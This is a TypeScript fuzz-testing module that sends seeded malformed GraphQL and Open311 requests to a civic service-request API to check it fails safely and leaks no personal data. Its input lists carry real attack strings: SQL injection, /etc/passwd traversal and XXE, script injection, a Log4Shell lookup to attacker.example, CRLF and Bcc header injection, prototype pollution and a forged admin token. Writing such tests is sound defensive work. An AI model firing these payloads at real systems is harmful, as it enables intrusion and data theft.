import type { MinimalOperation } from './operations.js';
import type { RawRequest } from './raw-http.js';

/** mulberry32: a small seeded generator, so a failing run can be replayed with its seed. */
export function seededRandom(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** The personal data the suite submits; none of it may turn up in a database dump or a log. */
export interface PersonalData {
  firstName: string;
  lastName: string;
  email: string;
  phone: string;
  postalAddress: string;
}

export interface FuzzContext {
  seed: number;
  /** Authorization header values to pick from (undefined: anonymous). */
  authorizations: readonly (string | undefined)[];
  apiKey: string;
  person: PersonalData;
  /** Valid documents to break: one per root field, plus the suite's own. */
  documents: readonly MinimalOperation[];
}

/** Control characters a request may carry; each is refused or kept, never a 500 (ADR 0043). */
export const CONTROL_CHARACTERS: readonly string[] = [
  '\u0000',
  '\u0001',
  '\u0007',
  '\u0008',
  '\u000b',
  '\u000c',
  '\u001b',
  '\u001f',
  '\u007f',
  '\u0085',
];

type Random = () => number;

const pick = <T>(random: Random, items: readonly T[]): T =>
  items[Math.floor(random() * items.length)];
const int = (random: Random, below: number): number => Math.floor(random() * below);

/**
 * Strings that have broken parsers, validators and databases before. None holds the person's
 * data: they go into any field, and a name stored in a service's name is not a leak.
 */
function weirdStrings(): string[] {
  return [
    '',
    ' ',
    '\t\n',
    'x'.repeat(5_000),
    'y'.repeat(200_000),
    "' OR 1=1 --",
    '"; DROP TABLE citizen; --',
    '../../../../etc/passwd',
    '<script>alert(1)</script>',
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    '${jndi:ldap://attacker.example/x}',
    '{{7*7}}',
    '%s%s%s%n',
    '\u202eevil',
    '\ud800',
    '\udfff\ud800',
    '\ufeff',
    '\u2028\u2029',
    '😀'.repeat(1000),
    'ａｄｍｉｎ',
    'İstanbul ǅ ß ﬃ',
    '0',
    '-1',
    '1e309',
    'NaN',
    'null',
    'undefined',
    'true',
    '[]',
    '{}',
    '00000000-0000-0000-0000-000000000000',
    'SR-2026-0000001',
    'SR-9999-99999999999999999999',
    '2026-02-30T25:61:61Z',
    '+275760-09-13T00:00:00.001Z',
    '-000001-01-01T00:00:00Z',
    '\r\nX-Injected: 1\r\n\r\n',
    'someone@example.org\r\nBcc: attacker@example.org',
    ...CONTROL_CHARACTERS.map((c) => `probe${c}control`),
  ];
}

function weirdValues(): unknown[] {
  return [
    ...weirdStrings(),
    0,
    -1,
    2147483648,
    -2147483649,
    9007199254740993,
    1e308,
    -0.0000001,
    true,
    false,
    null,
    [],
    [null],
    [[[[[[[[[[]]]]]]]]]],
    {},
    { $ne: null },
    { __proto__: { admin: true } },
    JSON.parse('{"__proto__": {"polluted": true}}') as unknown,
    // 5,000 items of the wrong type took the gateway 6-10 s (one coercion error, with its stack,
    // per item); now refused at the edge (docs/adr/0050). 900 stay under the list limit and meet
    // the cap on coercion errors instead.
    Array.from({ length: 5_000 }, () => 'x'),
    Array.from({ length: 900 }, () => ({})),
    nested(300),
  ];
}

function nested(depth: number): unknown {
  let value: unknown = 'deep';
  for (let i = 0; i < depth; i++) {
    value = { a: value };
  }
  return value;
}

/** Replaces one leaf (or the whole value) of `value` with `replacement`. */
function replaceLeaf(random: Random, value: unknown, replacement: unknown): unknown {
  if (value && typeof value === 'object' && !Array.isArray(value)) {
    const keys = Object.keys(value);
    if (keys.length && random() < 0.8) {
      const key = pick(random, keys);
      return {
        ...(value as Record<string, unknown>),
        [key]: replaceLeaf(random, (value as Record<string, unknown>)[key], replacement),
      };
    }
  }
  return replacement;
}

/** Ways to break a document's text. */
function breakDocument(random: Random, doc: string, weird: readonly string[]): string {
  const at = int(random, doc.length + 1);
  switch (int(random, 12)) {
    case 0:
      return doc.slice(0, at);
    case 1:
      return doc.slice(0, at) + doc.slice(at + 1 + int(random, 5));
    case 2:
      return doc.slice(0, at) + pick(random, '{}()[]:$@!.,="\\#|&'.split('')) + doc.slice(at);
    case 3:
      return doc.slice(0, at) + pick(random, weird).slice(0, 200) + doc.slice(at);
    case 4:
      return doc.replace(/\$\w+/, () =>
        pick(random, [
          '"unterminated',
          '1e999',
          '99999999999999999999999',
          '"\\uZZZZ"',
          '"""block',
          '[',
          '{a:',
          'null',
          '$undeclared',
          '-',
          '0x1F',
          '"\\u0000"',
        ]),
      );
    case 5:
      return `${'{'.repeat(1 + int(random, 3000))}${doc}`;
    case 6:
      return pick(random, [
        'subscription S { services { code } }',
        'fragment F on Query { services { code } }',
        '{ __schema { types { name fields { name } } } }',
        '{ __type(name: "Query") { fields { name } } }',
        '{ services { __typename @skip(if: $x) } }',
        'query Q($v: String = 1) { service(code: $v) { code } }',
        'query ($a: Int!, $a: Int!) { services { code } }',
        'query { services { code } } mutation { eraseMe { erasedAt } }',
        '{ services { code } } # trailing comment \u2028',
        '{ service(code: "pothole") { code ...on Department { code } } }',
        `{ ${'x'.repeat(10_000)} }`,
        '{ services(first: -1) { code } }',
        '',
        ' ',
        '\ufeff{ services { code } }',
      ]);
    case 7:
      return doc.replace(
        /\b[a-z][A-Za-z]+\b/,
        pick(random, ['nope', '__proto__', 'constructor', 'Query']),
      );
    case 8: {
      const cut = int(random, Math.max(1, doc.length - 10));
      const segment = doc.slice(cut, cut + 10 + int(random, 30));
      return doc.slice(0, at) + segment.repeat(1 + int(random, 20)) + doc.slice(at);
    }
    case 9:
      return doc.replace('{', `(${'a: 1, '.repeat(1 + int(random, 100))}) {`);
    case 10:
      return `${doc} ${doc}`;
    default:
      return doc.split('').reverse().join('');
  }
}

function graphqlFuzz(random: Random, ctx: FuzzContext, label: string): RawRequest {
  const weird = weirdStrings();
  const values = weirdValues();
  const base = pick(random, ctx.documents);
  const authorization = pick(random, ctx.authorizations);
  const headers: Record<string, string> = {
    'content-type': 'application/json',
    ...(authorization ? { authorization } : {}),
  };
  const post = (body: string | Buffer, extra: Record<string, string> = {}): RawRequest => ({
    label,
    method: 'POST',
    path: '/graphql',
    headers: { ...headers, ...extra },
    body,
  });
  switch (int(random, 10)) {
    case 0:
    case 1:
    case 2: {
      // A broken document, its variables intact.
      const query = breakDocument(random, base.query, weird);
      return post(JSON.stringify({ query, variables: base.variables }));
    }
    case 3:
    case 4:
    case 5: {
      // A valid document with one variable replaced by something of the wrong kind.
      const variables = replaceLeaf(random, base.variables, pick(random, values));
      return post(JSON.stringify({ query: base.query, variables }));
    }
    case 6: {
      // The envelope itself is wrong.
      const bodies: (string | Buffer)[] = [
        '',
        '{',
        'null',
        '[]',
        '42',
        '"query"',
        JSON.stringify([{ query: base.query }, { query: base.query }]),
        JSON.stringify({ query: 42 }),
        JSON.stringify({ query: { kind: 'Document', definitions: [] } }),
        JSON.stringify({ query: [base.query] }),
        JSON.stringify({ query: null }),
        JSON.stringify({ query: base.query, variables: '{"a":' }),
        JSON.stringify({ query: base.query, variables: [1, 2] }),
        JSON.stringify({ query: base.query, variables: 'null' }),
        JSON.stringify({ query: base.query, operationName: 42 }),
        JSON.stringify({ query: base.query, operationName: { a: 1 } }),
        JSON.stringify({
          query: base.query,
          extensions: { persistedQuery: { version: 1, sha256Hash: 'x' } },
        }),
        JSON.stringify({ query: base.query, extensions: 'x' }),
        JSON.stringify({ query: base.query, variables: base.variables }).slice(0, int(random, 200)),
        Buffer.from([0x7b, 0x22, 0x71, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0xc0, 0xaf, 0x22, 0x7d]),
        Buffer.concat([
          Buffer.from([0xef, 0xbb, 0xbf]),
          Buffer.from(JSON.stringify({ query: base.query })),
        ]),
        `{"query": "${'['.repeat(5_000)}"}`,
        `${'['.repeat(100_000)}${']'.repeat(100_000)}`,
        `{"query": "{ services { code } }", "variables": ${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}}`,
      ];
      return post(pick(random, bodies));
    }
    case 7: {
      // Wrong content types and methods.
      const body = JSON.stringify({ query: base.query, variables: base.variables });
      const variants: RawRequest[] = [
        post(body, { 'content-type': 'text/plain' }),
        post(body, { 'content-type': 'application/x-www-form-urlencoded' }),
        post(body, { 'content-type': 'multipart/form-data; boundary=x' }),
        post(
          '--x\r\nContent-Disposition: form-data; name="operations"\r\n\r\n{"query":"{services{code}}"}\r\n--x--',
          {
            'content-type': 'multipart/form-data; boundary=x',
          },
        ),
        post(body, { 'content-type': 'application/json; charset=utf-7' }),
        post(body, { 'content-type': 'application/graphql' }),
        post(body, { 'content-encoding': 'gzip' }),
        post(body, { 'content-type': 'application/json', 'content-length': '5' }),
        { label, method: 'GET', path: `/graphql?query=${encodeURIComponent(base.query)}`, headers },
        { label, method: 'GET', path: '/graphql?query=%zz', headers },
        {
          label,
          method: 'GET',
          path: `/graphql?query=${encodeURIComponent('mutation { eraseMe { erasedAt } }')}`,
          headers,
        },
        { label, method: 'PUT', path: '/graphql', headers, body },
        { label, method: 'DELETE', path: '/graphql', headers },
        {
          label,
          method: 'OPTIONS',
          path: '/graphql',
          headers: { origin: 'https://attacker.example' },
        },
      ];
      return pick(random, variants);
    }
    case 8: {
      // Broken credentials.
      const authorizationValues = [
        'Bearer',
        'Bearer ',
        'Bearer x.y.z',
        'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiIsInJvbGVzIjpbImFkbWluIl19.',
        `Bearer ${'a'.repeat(20_000)}`,
        'Basic YWRtaW46YWRtaW4=',
        'bearer  two  spaces',
        `Bearer ${Buffer.from('{"alg":"HS256"}').toString('base64url')}.${Buffer.from('[]').toString('base64url')}.sig`,
        `${authorization ?? 'Bearer x'}x`,
        `${(authorization ?? 'Bearer a.b.c').split('.').slice(0, 2).join('.')}.`,
      ];
      return {
        ...post(JSON.stringify({ query: base.query, variables: base.variables })),
        headers: {
          'content-type': 'application/json',
          authorization: pick(random, authorizationValues),
        },
      };
    }
    default: {
      // A submission carrying the person's data, broken somewhere else (or in one of the
      // person's own fields: those are sealed however they are written).
      const reporter: Record<string, unknown> = { ...ctx.person };
      if (random() < 0.5) {
        reporter[pick(random, Object.keys(ctx.person))] = pick(random, [
          `${ctx.person.firstName}@@invalid`,
          `not-a-phone ${ctx.person.phone}x`,
          `${ctx.person.lastName}${pick(random, CONTROL_CHARACTERS)}`,
          ...weird,
        ]);
      }
      const input: Record<string, unknown> = {
        serviceCode: pick(random, ['pothole', 'no-such-service', '', 'x'.repeat(300)]),
        description: pick(random, ['Deep hole', 'z'.repeat(4_001), undefined]),
        location: pick(random, [
          { latitude: 91, longitude: 0 },
          { latitude: 40.7, longitude: -74, address: 'y'.repeat(10_000) },
          {},
          { address: '1 Main St' },
        ]),
        reporter,
        attributes: pick(random, [
          [],
          [{ code: 'size', values: ['huge'] }],
          [{ code: '', values: [] }],
        ]),
      };
      return post(
        JSON.stringify({
          query:
            'mutation S($input: SubmitServiceRequestInput!) { submitServiceRequest(input: $input) { ticketNumber } }',
          variables: { input },
        }),
      );
    }
  }
}

const OPEN311_PARAMETERS = [
  'service_code',
  'status',
  'start_date',
  'end_date',
  'updated_after',
  'page',
  'page_size',
  'lat',
  'long',
  'lat_ne',
  'long_ne',
  'lat_sw',
  'long_sw',
  'extensions',
  'jurisdiction_id',
  'service_request_id',
  'address_id',
  'api_key',
  'unknown_parameter',
];

/** Raw (already encoded, some deliberately wrongly) query-string values; no personal data. */
function rawOpen311Values(random: Random): string[] {
  return [
    '',
    '%zz',
    '%',
    '%E0%A4%A',
    '%C0%AE%C0%AE',
    '%FF%FE',
    '%0D%0ASet-Cookie:%20x=1',
    '+',
    '%2B1',
    'open,closed,,',
    ',,,',
    '-1',
    '0',
    '1e309',
    '99999999999999999999',
    'NaN',
    'true',
    '2026-02-30',
    '2026-01-01T00:00:00%2B25:00',
    'yesterday',
    encodeURIComponent('x'.repeat(3_000)),
    encodeURIComponent("' OR 1=1 --"),
    encodeURIComponent('SR-2026-0000001,SR-2026-0000002'),
    encodeURIComponent(pick(random, CONTROL_CHARACTERS)),
    encodeURIComponent('😀\u202e'),
    encodeURIComponent('civitas.local'),
    encodeURIComponent('pothole'),
  ];
}

function open311Fuzz(random: Random, ctx: FuzzContext, label: string): RawRequest {
  const raw = rawOpen311Values(random);
  const format = pick(random, ['json', 'json', 'xml', 'JSON', 'csv', 'json.xml', 'json;x', '']);
  const query = (): string =>
    Array.from({ length: int(random, 5) }, () => {
      const name = pick(random, OPEN311_PARAMETERS);
      return `${name}=${pick(random, raw)}`;
    }).join('&');
  switch (int(random, 8)) {
    case 0:
    case 1:
      return { label, method: 'GET', path: `/open311/v2/requests.${format}?${query()}` };
    case 2: {
      const id = pick(random, [
        ...raw,
        'SR-2026-0000001',
        '..%2F..%2Fetc%2Fpasswd',
        '%2e%2e',
        'a'.repeat(500),
      ]);
      const resource = pick(random, ['requests', 'services', 'tokens']);
      return { label, method: 'GET', path: `/open311/v2/${resource}/${id}.${format}?${query()}` };
    }
    case 3: {
      const path = pick(random, [
        `/open311/v2/services.${format}`,
        `/open311/v2/servicerequestupdates.${format}`,
        `/open311/discovery.${format}`,
        `/open311/v2/${pick(random, raw)}.${format}`,
        '/open311/v2/',
        '/open311//v2//requests.json',
        '/open311/v2/requests.json/../../graphql',
        `/open311/v2/requests.json?${'a=1&'.repeat(2_000)}`,
      ]);
      return {
        label,
        method: pick(random, ['GET', 'GET', 'HEAD', 'DELETE', 'PUT', 'PATCH']),
        path: path.includes('?') ? path : `${path}?${query()}`,
      };
    }
    default: {
      // POST requests or servicerequestupdates with a form that is wrong somewhere.
      const fields: [string, string][] = [];
      const key = pick(random, [ctx.apiKey, ctx.apiKey, 'civ_wrong', '', ctx.apiKey.slice(0, -1)]);
      if (random() < 0.9) {
        fields.push(['api_key', encodeURIComponent(key)]);
      }
      const values = [
        ['service_code', pick(random, ['pothole', 'pothole', 'nope', ...raw])],
        ['lat', pick(random, ['40.7', '91', '-91', ...raw])],
        ['long', pick(random, ['-74.0', '181', ...raw])],
        ['address_string', pick(random, ['1%20Main%20St', ...raw])],
        ['address_id', pick(random, raw)],
        [
          'email',
          pick(random, [
            encodeURIComponent(ctx.person.email),
            encodeURIComponent(`${ctx.person.firstName}@`),
            ...raw,
          ]),
        ],
        ['first_name', pick(random, [encodeURIComponent(ctx.person.firstName), ...raw])],
        ['last_name', pick(random, [encodeURIComponent(ctx.person.lastName), ...raw])],
        [
          'phone',
          pick(random, [
            encodeURIComponent(ctx.person.phone),
            encodeURIComponent(`${ctx.person.phone} ext ${ctx.person.lastName}`),
            ...raw,
          ]),
        ],
        ['description', pick(random, [encodeURIComponent('z'.repeat(4_001)), ...raw])],
        [
          'media_url',
          pick(random, ['javascript:alert(1)', 'file%3A%2F%2F%2Fetc%2Fpasswd', ...raw]),
        ],
        ['device_id', pick(random, raw)],
        ['account_id', pick(random, raw)],
        ['attribute[size]', pick(random, raw)],
        ['attribute[]', pick(random, raw)],
        ['attribute[x][y][z]', pick(random, raw)],
        ['service_request_id', pick(random, raw)],
        ['status', pick(random, ['not fixed', 'fixed', ...raw])],
      ] as [string, string][];
      for (const field of values) {
        if (random() < 0.5) {
          fields.push([
            encodeURIComponent(field[0]).replace(/%5B/g, '[').replace(/%5D/g, ']'),
            field[1],
          ]);
        }
      }
      const body = fields.map(([n, v]) => `${n}=${v}`).join('&');
      const contentType = pick(random, [
        'application/x-www-form-urlencoded',
        'application/x-www-form-urlencoded',
        'application/x-www-form-urlencoded; charset=iso-8859-1',
        'application/json',
        'text/plain',
        'multipart/form-data; boundary=zzz',
      ]);
      const asJson = contentType === 'application/json';
      return {
        label,
        method: 'POST',
        path: `/open311/v2/${pick(random, ['requests', 'requests', 'servicerequestupdates'])}.${format}`,
        headers: { 'content-type': contentType },
        body: asJson
          ? pick(random, [
              JSON.stringify(Object.fromEntries(fields.map(([n, v]) => [n, safeDecode(v)]))),
              '{',
              '[]',
            ])
          : body,
      };
    }
  }
}

function safeDecode(value: string): string {
  try {
    return decodeURIComponent(value);
  } catch {
    return value;
  }
}

/**
 * `count` malformed requests, half GraphQL and half Open311, the same for the same seed and
 * context. Each has a label `fuzz #<n> (<kind>)` to replay it by.
 */
export function fuzzRequests(ctx: FuzzContext, count: number): RawRequest[] {
  const random = seededRandom(ctx.seed);
  return Array.from({ length: count }, (_, n) =>
    n % 2 === 0
      ? graphqlFuzz(random, ctx, `fuzz #${n} (GraphQL)`)
      : open311Fuzz(random, ctx, `fuzz #${n} (Open311)`),
  );
}
